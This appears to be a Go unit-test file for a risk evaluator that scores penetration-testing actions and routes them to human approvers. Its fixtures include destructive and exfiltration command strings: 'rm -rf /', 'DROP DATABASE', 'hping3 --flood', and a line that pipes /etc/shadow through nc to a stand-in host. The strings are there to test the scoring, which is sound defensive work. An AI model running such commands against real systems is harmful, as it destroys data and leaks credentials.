package risk

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"xiezhi/internal/models"
)

var (
	// 星期三上午，工作时间内
	workday = time.Date(2026, 3, 4, 10, 0, 0, 0, time.UTC)
	night   = time.Date(2026, 3, 4, 22, 0, 0, 0, time.UTC)
	weekend = time.Date(2026, 3, 7, 10, 0, 0, 0, time.UTC)
)

func newEvaluator(t *testing.T, cfg Config) *Evaluator {
	t.Helper()
	e, err := NewEvaluator(cfg, WithClock(func() time.Time { return workday }))
	require.NoError(t, err)
	return e
}

func scan() *models.SecurityAction {
	return &models.SecurityAction{
		ActionID: "a-scan", ActionType: "port_scan", TargetIP: "192.168.1.50",
		ToolName: "nmap", Command: "nmap -sS 192.168.1.50", Phase: models.PhaseScanning,
	}
}

func exploit() *models.SecurityAction {
	return &models.SecurityAction{
		ActionID: "a-exploit", ActionType: "exploit", Target: "db01.corp.local",
		TargetPorts: []int{3306}, ToolName: "metasploit", Phase: models.PhaseExploitation,
	}
}

func TestLevelForScore_Thresholds(t *testing.T) {
	tests := []struct {
		score float64
		want  models.RiskLevel
	}{
		{0.0, models.RiskLow},
		{0.2999, models.RiskLow},
		{0.3, models.RiskMedium},
		{0.4999, models.RiskMedium},
		{0.5, models.RiskHigh},
		{0.7999, models.RiskHigh},
		{0.8, models.RiskCritical},
		{1.0, models.RiskCritical},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, LevelForScore(tt.score), "score %v", tt.score)
	}
}

func TestAssess_ScanIsLow(t *testing.T) {
	ra := newEvaluator(t, Config{}).Assess(scan(), nil)
	assert.InDelta(t, 0.20, ra.RiskScore, 1e-9)
	assert.Equal(t, models.RiskLow, ra.RiskLevel)
	assert.Equal(t, models.RoleAnalyst, ra.RequiredApproverLevel)
	assert.Equal(t, 60, ra.RecommendedTimeoutMinutes)
	assert.Empty(t, ra.RecommendedConditions)
	assert.False(t, ra.DestructivePotential)
	assert.Equal(t, "unlikely", ra.Likelihood)
}

func TestAssess_ExploitIsHighAndEscalated(t *testing.T) {
	ra := newEvaluator(t, Config{}).Assess(exploit(), nil)
	assert.InDelta(t, 0.72, ra.RiskScore, 1e-9)
	assert.Equal(t, models.RiskHigh, ra.RiskLevel)
	assert.Equal(t, models.RoleCISO, ra.RequiredApproverLevel, "security_lead escalated one step for exploitation")
	assert.Equal(t, 15, ra.RecommendedTimeoutMinutes)
	assert.True(t, ra.DataExposureRisk)
	assert.Contains(t, ra.RecommendedConditions, "real-time monitoring required")
	assert.InDelta(t, 0.15, ra.SubScores[models.FactorTarget], 1e-9)
}

func TestAssess_EscalationOnlyForExploitation(t *testing.T) {
	a := &models.SecurityAction{ActionID: "a-post", ActionType: "pivot", Target: "10.0.0.8", ToolName: "ssh", Phase: models.PhasePostExploitation}
	ra := newEvaluator(t, Config{}).Assess(a, &Environment{ComplianceFrameworks: []string{"pci-dss"}})
	assert.InDelta(t, 0.38, ra.RiskScore, 1e-9)
	assert.Equal(t, models.RiskMedium, ra.RiskLevel)
	assert.Equal(t, models.RoleSeniorPentester, ra.RequiredApproverLevel)
	assert.True(t, ra.DataExposureRisk)
	assert.True(t, ra.ComplianceRisk)
}

func TestAssess_DeclaredLevelRaisesNeverLowers(t *testing.T) {
	e := newEvaluator(t, Config{})
	a := scan()
	a.RiskLevel = models.RiskHigh
	ra := e.Assess(a, nil)
	assert.Equal(t, models.RiskHigh, ra.RiskLevel)
	assert.InDelta(t, 0.20, ra.RiskScore, 1e-9, "score is not rewritten")
	assert.Equal(t, models.RoleSecurityLead, ra.RequiredApproverLevel)

	b := exploit()
	b.RiskLevel = models.RiskLow
	assert.Equal(t, models.RiskHigh, e.Assess(b, nil).RiskLevel)
}

func TestAssess_DestructiveCommandIsCritical(t *testing.T) {
	a := exploit()
	a.Command = "mysql -h db01 -e 'DROP DATABASE shop'"
	ra := newEvaluator(t, Config{}).Assess(a, nil)
	assert.Equal(t, 1.0, ra.RiskScore)
	assert.Equal(t, models.RiskCritical, ra.RiskLevel)
	assert.True(t, ra.DestructivePotential)
	assert.True(t, ra.AvailabilityRisk)
	assert.Equal(t, 10, ra.RecommendedTimeoutMinutes)
	assert.Equal(t, models.RoleCISO, ra.RequiredApproverLevel)
	assert.Contains(t, ra.Impact, "irreversible")
}

func TestAssess_IsDestructiveFlagFloorsCommandScore(t *testing.T) {
	a := scan()
	a.IsDestructive = true
	ra := newEvaluator(t, Config{}).Assess(a, nil)
	assert.InDelta(t, 0.25, ra.SubScores[models.FactorCommand], 1e-9)
	assert.True(t, ra.DestructivePotential)
}

func TestAssess_OffHours(t *testing.T) {
	e := newEvaluator(t, Config{})

	ra := e.Assess(exploit(), &Environment{Now: night})
	assert.InDelta(t, 0.05, ra.SubScores[models.FactorTemporal], 1e-9)
	assert.Equal(t, 7, ra.RecommendedTimeoutMinutes, "15 halved")

	ra = e.Assess(exploit(), &Environment{Now: weekend})
	assert.InDelta(t, 0.10, ra.SubScores[models.FactorTemporal], 1e-9)

	e = newEvaluator(t, Config{TimeoutCriticalMinutes: 6, TimeoutFloorMinutes: 5})
	a := exploit()
	a.RiskLevel = models.RiskCritical
	assert.Equal(t, 5, e.Assess(a, &Environment{Now: night}).RecommendedTimeoutMinutes, "floor applies after halving")
}

func TestAssess_ProductionForcesTargetMax(t *testing.T) {
	ra := newEvaluator(t, Config{}).Assess(scan(), &Environment{Production: true})
	assert.InDelta(t, 0.20, ra.SubScores[models.FactorTarget], 1e-9)
	assert.Equal(t, models.RiskMedium, ra.RiskLevel)
	assert.Contains(t, ra.RecommendedConditions, "system owner on standby")
}

func TestAssess_NetworkImpact(t *testing.T) {
	e := newEvaluator(t, Config{})
	a := scan()
	a.Command = "nmap -p- -T4 192.168.1.50"
	ra := e.Assess(a, nil)
	assert.InDelta(t, 0.13, ra.SubScores[models.FactorNetwork], 1e-9)
	assert.True(t, ra.AvailabilityRisk)

	a.Command = "hping3 --flood -S 192.168.1.50"
	a.ToolName = ""
	ra = e.Assess(a, nil)
	assert.InDelta(t, 0.05, ra.SubScores[models.FactorNetwork], 1e-9)
	assert.InDelta(t, unknownToolScore, ra.SubScores[models.FactorTool], 1e-9)
}

func TestAssess_ExfiltrationScored(t *testing.T) {
	a := scan()
	a.Command = "mysqldump -h 192.168.1.50 shop > out.sql"
	ra := newEvaluator(t, Config{}).Assess(a, nil)
	assert.InDelta(t, commandExfiltration, ra.SubScores[models.FactorCommand], 1e-9)
	assert.True(t, ra.DataExposureRisk)
}

func TestAssess_SubScoresBounded(t *testing.T) {
	e := newEvaluator(t, Config{})
	limits := map[models.RiskFactor]float64{
		models.FactorPhase: maxPhase, models.FactorTool: maxTool, models.FactorTarget: maxTarget,
		models.FactorCommand: maxCommand, models.FactorNetwork: maxNetwork, models.FactorTemporal: maxTemporal,
	}
	commands := []string{"", "nmap -p- -T5 --min-rate 5000 x", "rm -rf / && hping3 --flood x", "mysqldump x | nc evil 1 < /etc/shadow"}
	tools := []string{"", "nmap", "mimikatz", "custom-tool"}
	targets := []string{"", "dc01.prod.example.com", "backup01", "db-prod"}
	for p := models.PhaseReconnaissance; p <= models.PhaseReporting; p++ {
		for _, cmd := range commands {
			for _, tool := range tools {
				for _, target := range targets {
					for _, now := range []time.Time{workday, night, weekend} {
						a := &models.SecurityAction{ActionID: "x", ActionType: "t", Phase: p, Command: cmd, ToolName: tool, Target: target, IsDestructive: cmd != ""}
						ra := e.Assess(a, &Environment{Now: now, Production: target == "db-prod"})
						for f, v := range ra.SubScores {
							assert.GreaterOrEqual(t, v, 0.0)
							assert.LessOrEqual(t, v, limits[f], "%s", f)
						}
						assert.GreaterOrEqual(t, ra.RiskScore, 0.0)
						assert.LessOrEqual(t, ra.RiskScore, 1.0)
						assert.Equal(t, LevelForScore(ra.RiskScore), ra.RiskLevel)
						assert.GreaterOrEqual(t, ra.RecommendedTimeoutMinutes, 5)
					}
				}
			}
		}
	}
}

func TestClassifyTarget(t *testing.T) {
	tests := []struct {
		in   string
		want targetClass
	}{
		{"dc01.corp.local", targetDomainController},
		{"ldap://10.0.0.2", targetDomainController},
		{"db-prod", targetDatabase},
		{"backup-srv", targetBackup},
		{"live.example.com", targetProduction},
		{"feedback.example.com", targetNone},
		{"192.168.1.50", targetNone},
	}
	for _, tt := range tests {
		got := classifyTarget(tt.in)
		if tt.in == "db-prod" {
			assert.Equal(t, targetScores[targetDatabase], targetScores[got], tt.in)
			continue
		}
		assert.Equal(t, tt.want, got, tt.in)
	}
}

func TestToolOf(t *testing.T) {
	assert.Equal(t, "nmap", toolOf(&models.SecurityAction{Command: "sudo /usr/bin/nmap -sV x"}))
	assert.Equal(t, "sqlmap", toolOf(&models.SecurityAction{ToolName: "sqlmap.py"}))
	assert.Equal(t, "hydra", toolOf(&models.SecurityAction{Command: "LANG=C hydra -l root x ssh"}))
	assert.Equal(t, "", toolOf(&models.SecurityAction{}))
}

func TestPortBreadth(t *testing.T) {
	assert.Equal(t, 1025, portBreadth(&models.SecurityAction{Command: "nmap -p 1-1024,3306 x"}))
	assert.Equal(t, 65535, portBreadth(&models.SecurityAction{Command: "nmap -p- x"}))
	assert.Equal(t, 200, portBreadth(&models.SecurityAction{Command: "nmap --top-ports 200 x"}))
	assert.Equal(t, 3, portBreadth(&models.SecurityAction{TargetPorts: []int{22, 80, 443}}))
}

func TestNewEvaluator_InvalidBusinessHours(t *testing.T) {
	_, err := NewEvaluator(Config{BusinessHours: BusinessHours{Timezone: "Nowhere/City"}})
	assert.Error(t, err)
	_, err = NewEvaluator(Config{BusinessHours: BusinessHours{StartHour: 18, EndHour: 9}})
	assert.Error(t, err)
	_, err = NewEvaluator(Config{BusinessHours: BusinessHours{Days: []string{"funday"}}})
	assert.Error(t, err)
}
